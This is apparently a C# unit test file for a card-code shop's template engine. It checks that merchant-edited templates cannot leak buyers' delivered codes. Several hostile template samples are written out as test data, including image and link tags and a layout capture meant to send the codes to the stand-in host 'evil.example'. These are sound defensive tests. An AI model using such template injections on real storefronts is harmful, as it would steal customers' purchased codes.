using HuijinCardHub.Theming;
using Xunit;

namespace HuijinCardHub.Tests.Theming;

/// <summary>
/// A merchant who may edit templates tries every way a template has to get at a buyer's codes; the codes reach the
/// page only where the built-in tag stands in plain text, and only on a page the codes were attached to.
/// </summary>
public sealed class DeliveredCodesTagTests
{
    private const string Code = "CARD-7781";
    private const string Password = "PW-5512";

    private static readonly OrderPageModel Order = new("20261202000000000001", [new OrderPageLine(1, "点卡", [41])]);

    private static OrderPageModel WithCodes(ThemingTestHost host, string cardNumber = Code)
    {
        var model = Order with { };
        host.CodesOnPage.Attach(model, new Dictionary<int, IReadOnlyList<CodeOnPage>> { [1] = [new CodeOnPage(41, cardNumber, Password, false)] });
        return model;
    }

    private static int Count(string html, string part) => (html.Length - html.Replace(part, "", StringComparison.Ordinal).Length) / part.Length;

    [Fact]
    public async Task The_tag_shows_the_codes_encoded_in_a_list_with_a_copy_button()
    {
        using var host = new ThemingTestHost(new Dictionary<string, string> { ["order"] = "<div id=\"real\">{% delivered_codes Model.Lines[0].Number %}</div>" });

        var html = await host.Renderer.RenderToStringAsync("order", WithCodes(host, "A<b>&\"1"));

        Assert.Contains("<div id=\"real\"><ol class=\"codes\"><li class=\"code\" data-code-id=\"41\"><code class=\"code-number\">A&lt;b&gt;&amp;&quot;1</code> <code class=\"code-password\">PW-5512</code>", html);
        Assert.Contains("class=\"copy-code\"", html);
    }

    [Fact]
    public async Task Captures_attributes_comments_and_form_fields_get_no_code()
    {
        var hostile = """
            {% capture grabbed %}{% delivered_codes 1 %}{% endcapture %}<p id="capture">[{{ grabbed }}][{{ grabbed | size }}]</p>
            <img src='https://evil.example/?c={% delivered_codes 1 %}'>
            <a href=https://evil.example/?{% delivered_codes 0 %}>x</a>
            <!-- {% delivered_codes 1 %} -->
            <textarea name="t">{% delivered_codes 1 %}</textarea>
            <style>{% delivered_codes 1 %}</style>
            <select name="s"><option>{% delivered_codes 0 %}</option></select>
            <form action="/x"><p>{% delivered_codes 1 %}</p></form>
            <div id="real">{% delivered_codes 1 %}</div>
            """;
        using var host = new ThemingTestHost(new Dictionary<string, string> { ["order"] = hostile });

        var html = await host.Renderer.RenderToStringAsync("order", WithCodes(host));

        Assert.Equal(1, Count(html, Code));
        Assert.Contains("<div id=\"real\"><ol class=\"codes\">", html);
        Assert.Contains("<p id=\"capture\">[][0]</p>", html);
        Assert.Contains("<img src='https://evil.example/?c='>", html);
    }

    [Fact]
    public async Task A_layout_cannot_read_or_move_the_codes_of_the_page_body()
    {
        var layout = """
            <html><body>{% capture page %}{{ Content }}{% endcapture %}
            <img src="https://evil.example/?p={{ page | url_encode }}">
            <img src='https://evil.example/?raw={{ Content }}'>
            <i>{{ Content | split: "" | join: "," }}</i>
            <main>{{ Content | raw }}</main></body></html>
            """;
        using var host = new ThemingTestHost(new Dictionary<string, string> { ["order"] = "<div id=\"real\">{% delivered_codes 1 %}</div>" });
        await host.Overrides.SaveAsync("Jade", "layout", layout);

        var html = await host.Renderer.RenderToStringAsync("order", WithCodes(host));

        Assert.Equal(1, Count(html, Code));
        Assert.Contains("<main><div id=\"real\"><ol class=\"codes\">", html);
    }

    [Fact]
    public async Task Without_codes_attached_to_the_model_the_tag_shows_nothing_and_preview_shows_none()
    {
        using var host = new ThemingTestHost(new Dictionary<string, string> { ["order"] = "<div id=\"real\">{% delivered_codes 0 %}</div>" });
        WithCodes(host);

        var html = await host.Renderer.RenderToStringAsync("order", Order with { });
        var preview = await host.Preview.RenderAsync("Jade", "order", "<div id=\"real\">{% delivered_codes 0 %}</div>");

        Assert.Contains("<div id=\"real\"></div>", html);
        Assert.True(preview.Succeeded, preview.Error?.English);
        Assert.Contains("<div id=\"real\"></div>", preview.Html);
    }
}
